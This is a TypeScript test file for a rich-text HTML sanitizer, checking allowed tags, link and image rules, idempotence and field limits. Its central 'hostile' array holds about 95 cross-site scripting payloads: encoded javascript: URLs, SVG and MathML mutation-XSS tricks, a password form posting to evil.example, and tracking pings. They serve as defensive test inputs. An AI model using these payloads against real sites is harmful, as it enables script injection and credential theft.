import { richTextMarks } from '@veos/contract/reference/richText'
import { richText } from '@veos/contract/richText'
import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { FieldsRefused } from './http/refused.ts'
import { cleanRichText, sanitizeRichText } from './richText.ts'

const image = '/api/images/0123456789abcdef0123456789abcdef.webp'
const link = (href: string, text: string) => `<a href="${href}" target="_blank" rel="noopener nofollow ugc">${text}</a>`
const full = (html: string) => sanitizeRichText(html, richTextMarks.full)

test('what an editor writes stays as it is', () => {
  const written = [
    '<p>Two drivers, <strong>ADR</strong> and <em>TIR</em> &amp; more</p>',
    '<ul><li><p>one</p></li><li><p>two<br />lines</p></li></ul><ol><li><p>first</p></li></ol>',
    `<p>See ${link('https://veos.example/a?b=1&amp;c=2', 'the map')} or ${link('mailto:a@veos.example', 'write')}</p>`,
    `<p>Gate</p><img src="${image}" alt="" />`,
  ]
  for (const html of written) expect(full(html)).toBe(html)
})

test('each field keeps only what its own editor offers', () => {
  const html = `<p><b>bold</b> <i>it</i> <a href="https://a.example">link</a></p><ul><li>item</li></ul><img src="${image}">`
  expect(sanitizeRichText(html, richTextMarks.plain)).toBe('<p><strong>bold</strong> <em>it</em> link</p>item')
  expect(sanitizeRichText(html, richTextMarks.withoutImages)).not.toContain('<img')
  expect(sanitizeRichText(html, richTextMarks.message)).not.toContain('<li')
  expect(sanitizeRichText(html, richTextMarks.message)).toContain(image)
  expect(sanitizeRichText(html, [])).toBe('<p>bold it link</p>item')
})

test('empty markup is an empty text', () => {
  for (const html of [
    '',
    ' ',
    '<p></p>',
    '<p><br></p>',
    '<p>&nbsp;</p><ul><li></li></ul>',
    '<script>x</script>',
    '<img>',
  ])
    expect(full(html)).toBe('')
  expect(full(`<img src="${image}">`)).not.toBe('')
})

test('links lead to web pages and e-mail addresses, in a window that knows nothing of ours', () => {
  expect(full('<a href="HTTPS://Veos.Example" target="_top" rel="opener" onclick="x()">a</a>')).toBe(
    link('https://veos.example/', 'a'),
  )
  for (const href of ['/log-in', '//evil.example', 'ftp://a.example', 'tel:+372', '#top', 'https://', 'http:a'])
    expect(full(`<a href="${href}">a</a>`)).toBe('a')
  expect(full(`<a href="https://veos.example@evil.example/">a</a>`)).toBe('a')
  expect(full(`<a href="https://a.example/${'x'.repeat(2000)}">a</a>`)).toBe('a')
})

test('images are our own and none other', () => {
  const others = [
    'https://evil.example/track.gif',
    '//evil.example/a.webp',
    'data:image/png;base64,AAAA',
    'data:image/svg+xml,<svg onload=alert(1)>',
    '/api/logOut',
    '/api/images/../logOut',
    `${image}?x`,
    `${image}/../../logOut`,
    `https://evil.example${image}`,
    image.toUpperCase(),
  ]
  for (const src of others) expect(full(`<p>a<img src="${src}">b</p>`)).toBe('<p>ab</p>')
})

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/xss src=x></script>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  `<img src="${image}" onerror="alert(1)" onload="alert(1)">`,
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img srcset="https://evil.example/x 1x" src=x>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<image href="x" onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\0script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://veos.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://a.example" style="position:fixed;inset:0">x</a>',
  '<a href="https://a.example" onmouseover=alert(1)>x</a>',
  '<a href=\'https://a.example/"onmouseover="alert(1)\'>x</a>',
  '<a href="https://a.example/><script>alert(1)</script>">x</a>',
  '<a name="x" id="y" class="z" href="https://a.example">x</a>',
  '<a href="https://a.example" ping="https://evil.example">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mtext><mglyph><style><math><img src onerror=alert(1)></style></mglyph></mtext></math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)></textarea>',
  '<title><a id="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="expression(alert(1))" class="x" id="root">x</p>',
  '<p onclick="alert(1)" onfocus=alert(1) autofocus tabindex=0 contenteditable>x</p>',
  '<body onload=alert(1)><p>x</p></body>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<select><option><script>alert(1)</script></option></select>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<table background="javascript:alert(1)"><td>x</td></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '<p>\u2028<img src=x onerror=alert(1)>\u202e</p>',
  '<img src=`x`onerror=alert(1)>',
  '<p/onclick=alert(1)>x',
  '<constructor><toString><__proto__>x',
  '<a href="https://a.example"><a href="javascript:alert(1)">x</a></a>',
  `${'<p><strong>'.repeat(500)}x`,
  `${'<ul><li>'.repeat(1000)}x`,
  '<'.repeat(5000),
]

describe('hostile', () => {
  test.each(hostile)('%s', (html) => {
    for (const marks of Object.values(richTextMarks)) expectHarmless(html, marks)
    expectHarmless(`<p>a</p>${html}${html}<p>b</p>`, richTextMarks.full)
  })
})

test('there are enough of them', () => {
  expect(hostile.length).toBeGreaterThanOrEqual(90)
})

test('whatever comes in, only allowed markup comes out, and a second time changes nothing', () => {
  const piece = fc.oneof(
    fc.constantFrom(...hostile.filter((html) => html.length < 300)),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<ul>',
      '</ul>',
      '<li>',
      '</li>',
      '<a href="https://a.example">',
      '</a>',
      '<!--',
      '-->',
    ),
    fc.constantFrom(
      '<b>',
      '</b>',
      '<em>',
      '</em>',
      '<br>',
      '</br>',
      '<',
      '>',
      '"',
      "'",
      '&',
      '&lt;',
      '&nbsp;',
      '\0',
      ']]>',
    ),
    fc.string({ maxLength: 10 }),
  )
  fc.assert(
    fc.property(
      fc.array(piece, { maxLength: 12 }),
      fc.constantFrom(...Object.values(richTextMarks)),
      (pieces, marks) => {
        expectHarmless(pieces.join(''), marks)
      },
    ),
    { numRuns: 500 },
  )
})

const tagNames: Record<string, string[]> = {
  bold: ['strong'],
  italic: ['em'],
  bulletList: ['ul', 'li'],
  numberedList: ['ol', 'li'],
  link: ['a'],
  image: ['img'],
}

/** Reads what came out as a browser would, with a parser that knows nothing of the rules. */
function expectHarmless(html: string, marks: readonly string[]): void {
  const clean = sanitizeRichText(html, marks as typeof richTextMarks.full)
  expect(sanitizeRichText(clean, marks as typeof richTextMarks.full)).toBe(clean)
  const allowed = new Set(['p', 'br', ...marks.flatMap((mark) => tagNames[mark]!)])
  const parser = new Parser({
    onopentag(name, attributes) {
      expect(allowed).toContain(name)
      if (name === 'a') {
        expect(Object.keys(attributes)).toEqual(['href', 'target', 'rel'])
        expect(attributes.href).toMatch(/^(https?:\/\/|mailto:)/)
      } else if (name === 'img') {
        expect(Object.keys(attributes)).toEqual(['src', 'alt'])
        expect(attributes.src).toBe(image)
      } else expect(attributes).toEqual({})
    },
    oncomment: () => expect.unreachable('a comment'),
    onprocessinginstruction: () => expect.unreachable('an instruction'),
  })
  parser.end(clean)
}

describe('a field', () => {
  const field = richText({ marks: richTextMarks.full, mostCharacters: 10, wanted: 'Enter a comment' })
  const optional = richText({ marks: richTextMarks.full, mostCharacters: 10 })

  test('counts characters without markup', () => {
    expect(clean(optional.parse('<p><strong>12345</strong>&amp;&lt;890</p>'))).toContain('890')
    expect(optional.safeParse('<p>12345678901</p>').error?.issues[0]?.message).toBe('At most 10 characters')
    expect(optional.safeParse('x'.repeat(100_000)).error?.issues[0]?.message).toBe('At most 10 characters')
    expect(optional.safeParse(`<img src="${image}">`.repeat(21)).error?.issues[0]?.message).toBe('At most 20 images')
  })

  test('that is wanted is not empty, neither as it comes nor once it is clean', () => {
    expect(field.safeParse('<p> </p>').error?.issues[0]?.message).toBe('Enter a comment')
    expect(field.safeParse(undefined).error?.issues[0]?.message).toBe('Enter a comment')
    const emptied = field.parse('<img src="https://evil.example/x.gif">')
    expect(() => clean(emptied)).toThrow(FieldsRefused)
    expect(clean(optional.parse(undefined))).toBe('')
  })

  test('holds nothing that a database cannot store', () => {
    expect(clean(optional.parse('<p>a\0b\ud800</p>'))).toBe('<p>ab\ufffd</p>')
  })

  function clean(incoming: Parameters<typeof cleanRichText>[1]) {
    return cleanRichText('comment', incoming)
  }
})
